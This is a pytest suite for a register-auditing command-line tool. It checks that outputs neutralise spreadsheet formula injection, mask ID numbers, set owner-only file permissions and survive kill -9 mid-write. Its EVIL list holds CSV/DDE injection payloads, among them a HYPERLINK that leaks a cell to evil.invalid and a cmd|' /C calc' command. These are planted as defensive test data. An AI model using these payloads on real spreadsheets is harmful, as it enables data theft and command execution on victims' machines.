"""Issue 7, the output side: no formula made from input text, ID numbers masked where that is
promised, outputs readable by their owner only, and a run killed mid-write leaves no half file
under a final name and the inputs untouched.

A register is planted with text that a spreadsheet would run (=, +, -, @, tab, carriage return),
in names, villages, townships and free-text columns, and with full, valid ID numbers; every
output of `audit` (xlsx, json, csv, per-township books), `validate --out`/`--json` and `bands`
(with a department list delivered to a folder) is then opened and read back.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from builders import base_county
from cli_process import exitcheck
from exitcheck.report.files import FORMULA_STARTS

AS_OF = "2020-06-30"
EVIL = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    # xlsxwriter before 3.3.1 wrote text in braces as an array formula, strings_to_formulas or not
    '{=HYPERLINK("http://evil.invalid/","点我")}',
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
#: A long number in the clerk's CSV, after the tab that keeps spreadsheets from turning it into
#: 5.13434E+17: digits only after the tab, so nothing a spreadsheet could run.
DIGITS_AS_TEXT = re.compile(r"^\t\d+$")


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONIOENCODING": "utf-8", "COLUMNS": "200"}


def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return exitcheck(*args, cwd=cwd, timeout=180)


def _planted(folder: Path) -> tuple[Path, list[str]]:
    county = base_county()
    for index, row in enumerate(county.households):
        row["户主姓名"] = EVIL[index % len(EVIL)]
        row["备注"] = EVIL[(index + 1) % len(EVIL)]
        row["帮扶责任人"] = EVIL[(index + 2) % len(EVIL)]
        row["安全饮水"] = "否"  # every household has a gap: every planted text reaches the lists
        row["人均纯收入"] = 4300 if index % 2 else 3000  # and an income band
    for sheet in (county.households, county.villages):
        for row in sheet:
            if row.get("行政村") == "马拖村":
                row["行政村"] = "@马拖村"
    for sheet in (county.households, county.villages, county.townships):
        for row in sheet:
            if row.get("乡镇") == "中所镇":
                row["乡镇"] = "+中所镇"
    members = county.members
    ids = [str(m["证件号码"]) for m in members]
    members[1]["证件号码"] = ids[1][:-1] + ("0" if ids[1][-1] != "0" else "1")  # id_checksum: value is the ID
    members[4]["出生日期"] = "1999-01-01"  # id_birth_mismatch
    members[5]["性别"] = "女" if members[5]["性别"] == "男" else "男"  # id_gender_mismatch
    for key in ("证件号码", "性别", "出生日期"):  # duplicate_person: household 1's head again in household 3
        members[7][key] = members[0][key]
    members[3]["姓名"] = "=1+2"
    path = county.write(folder / "registers.xlsx")
    return path, sorted({str(m["证件号码"]) for m in members} | set(ids))


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    root = tmp_path_factory.mktemp("outputs")
    register, ids = _planted(root)
    digest = hashlib.sha256(register.read_bytes()).hexdigest()
    (root / "ws").mkdir()
    (root / "ws" / "exitcheck.yaml").write_text(
        "file_mode: '0640'\n"
        "departments:\n"
        "  civil-affairs:\n"
        "    name: 民政局\n"
        "    columns: [household_id, township, village, head_name, income_per_capita, special, id_number]\n"
        "    deliver: {type: dir, path: deliveries}\n",
        encoding="utf-8",
    )
    runs = {
        "audit": _run("audit", str(register), "--out", "audit", "--format", "xlsx,json,csv", "--split-by", "township", "--as-of", AS_OF, cwd=root),
        "validate": _run("validate", str(register), "--out", "validate", "--as-of", AS_OF, cwd=root),
        "validate_json": _run("validate", str(register), "--json", "--as-of", AS_OF, cwd=root),
        "bands": _run("bands", str(register), "--out", str(root / "bands"), "--as-of", AS_OF, cwd=root),
        "push": _run("bands", str(register), "--out", str(root / "ws" / "out"), "--push-to", "all", "--as-of", AS_OF, cwd=root / "ws"),
    }
    return {"root": root, "register": register, "ids": ids, "digest": digest, "runs": runs}


def _files(root: Path, *folders: str) -> list[Path]:
    return sorted(p for folder in folders for p in (root / folder).rglob("*") if p.is_file())


def test_every_command_ran(outputs: dict[str, object]) -> None:
    runs: dict[str, subprocess.CompletedProcess[str]] = outputs["runs"]  # type: ignore[assignment]
    for name, run in runs.items():
        assert "Traceback" not in run.stderr, (name, run.stderr)
        assert run.returncode in (0, 1), (name, run.returncode, run.stderr)
    root: Path = outputs["root"]  # type: ignore[assignment]
    names = {p.name for p in _files(root, "audit", "validate", "bands", "ws/out", "ws/deliveries")}
    assert {"gaps.json", "gaps.xlsx", "gaps.csv", "gaps_households.csv", "issues.xlsx", "bands.json", "bands.xlsx"} <= names
    assert any(name.endswith(".xlsx") for name in os.listdir(root / "ws" / "deliveries"))
    assert len(list((root / "audit" / "townships").glob("*.xlsx"))) == 2


def test_no_formula_is_made_from_input_text(outputs: dict[str, object]) -> None:
    """xlsx: every cell written from data is a value, never a formula; formula-like text is a
    string with Excel's quote prefix (so editing the cell keeps it text)."""
    root: Path = outputs["root"]  # type: ignore[assignment]
    seen: set[str] = set()
    books = [p for p in _files(root, "audit", "validate", "bands", "ws/out", "ws/deliveries") if p.suffix == ".xlsx"]
    assert len(books) >= 6
    for book in books:
        workbook = openpyxl.load_workbook(book)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{sheet.title}!{cell.coordinate}: formula {cell.value!r}"
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{book.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}"
                        seen.add(cell.value)
    assert {EVIL[0], EVIL[1], EVIL[2], EVIL[3]} <= seen, seen  # the planted text did reach the workbooks
    assert any(cell.value == EVIL[6] for book in books for sheet in openpyxl.load_workbook(book).worksheets
               for row in sheet.iter_rows() for cell in row), "the braced text reached no workbook as text"


def test_csv_fields_that_start_like_a_formula_are_quoted(outputs: dict[str, object]) -> None:
    root: Path = outputs["root"]  # type: ignore[assignment]
    fields: list[str] = []
    for path in _files(root, "audit"):
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as handle:
                fields += [field for row in csv.reader(handle) for field in row]
    dangerous = [f for f in fields if f.startswith(FORMULA_STARTS) and not NUMBER.match(f) and not DIGITS_AS_TEXT.match(f)]
    assert not dangerous, dangerous
    assert "'" + EVIL[0] in fields and "'" + EVIL[3] in fields  # neutralised, not dropped
    assert "'@马拖村" in fields or "'+中所镇" in fields


def _full_ids(text: str, ids: list[str]) -> list[str]:
    return [i for i in ids if i in text]


def test_id_numbers_are_masked_where_promised(outputs: dict[str, object]) -> None:
    """gaps.json (gap values and data issues), validate --json and everything printed on the
    terminal carry no full ID number; issues.xlsx shows them whole on purpose (issue 2: the
    clerk must find the cell), and that is the only place checked to have them."""
    root: Path = outputs["root"]  # type: ignore[assignment]
    ids: list[str] = outputs["ids"]  # type: ignore[assignment]
    runs: dict[str, subprocess.CompletedProcess[str]] = outputs["runs"]  # type: ignore[assignment]
    gaps = (root / "audit" / "gaps.json").read_text(encoding="utf-8")
    assert not _full_ids(gaps, ids)
    document = json.loads(gaps)
    assert document["data_issues"], "the planted ID problems must be listed"
    masked = [i["value"] for i in document["data_issues"] if i["field"] == "id_number"]
    assert masked and all(re.fullmatch(r"\d{6}\*{8}[\dX]{4}", v) for v in masked), masked
    assert not _full_ids(runs["validate_json"].stdout, ids)
    for name, run in runs.items():
        assert not _full_ids(run.stdout + run.stderr, ids), name
    issues = openpyxl.load_workbook(root / "validate" / "issues.xlsx")
    shown = " ".join(str(c.value) for s in issues.worksheets for r in s.iter_rows() for c in r if c.value)
    assert _full_ids(shown, ids), "issues.xlsx shows the ID numbers whole (issue 2)"


def test_outputs_are_owner_only(outputs: dict[str, object]) -> None:
    root: Path = outputs["root"]  # type: ignore[assignment]
    for path in _files(root, "audit", "validate", "bands"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for path in _files(root, "ws/out", "ws/deliveries"):  # file_mode: '0640' in the workspace
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path
    leftovers = [p for p in _files(root, "audit", "validate", "bands", "ws/out", "ws/deliveries") if p.name.startswith(".")]
    assert not leftovers, leftovers


def test_inputs_are_never_touched(outputs: dict[str, object]) -> None:
    register: Path = outputs["register"]  # type: ignore[assignment]
    assert hashlib.sha256(register.read_bytes()).hexdigest() == outputs["digest"]


# ---- killed during the write ----------------------------------------------------------------


def _complete(path: Path) -> bool:
    """A file under a final name must be whole: JSON parses, a workbook opens, CSV decodes."""
    if path.suffix == ".json":
        json.loads(path.read_text(encoding="utf-8"))
    elif path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as archive:
            assert archive.testzip() is None
        openpyxl.load_workbook(path, read_only=True).close()
    elif path.suffix == ".csv":
        path.read_text(encoding="utf-8-sig")
    return True


@pytest.fixture(scope="module")
def big_register(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sample county big enough that writing its gap workbook takes a while."""
    from exitcheck.sample import write_sample

    path = tmp_path_factory.mktemp("big") / "county.xlsx"
    write_sample(path, households=6000, seed=7)
    return path


def test_a_run_killed_while_writing_leaves_no_half_file(tmp_path: Path, big_register: Path) -> None:
    """kill -9 as soon as a temporary output appears, several times at growing delays: every
    file under a final name is complete, and the input's digest is unchanged."""
    digest = hashlib.sha256(big_register.read_bytes()).hexdigest()
    caught = 0
    for attempt, delay in enumerate((0.0, 0.05, 0.2, 0.5)):
        out = tmp_path / f"out{attempt}"
        process = subprocess.Popen(
            [sys.executable, "-m", "exitcheck", "audit", str(big_register), "--out", str(out),
             "--format", "json,xlsx,csv", "--split-by", "township", "--as-of", AS_OF],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, env=_env(),
        )
        deadline = time.monotonic() + 170
        while process.poll() is None and time.monotonic() < deadline:
            if out.is_dir() and any(p.name.endswith(".part") for p in out.rglob("*")):
                time.sleep(delay)
                break
            time.sleep(0.002)
        if process.poll() is None:
            process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
        files = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
        caught += any(p.name.endswith(".part") for p in files)  # killed with a write under way
        for path in files:
            if not path.name.startswith("."):
                assert _complete(path), path
        assert hashlib.sha256(big_register.read_bytes()).hexdigest() == digest
    assert caught, "no attempt was killed while writing: the register is too small for this machine"
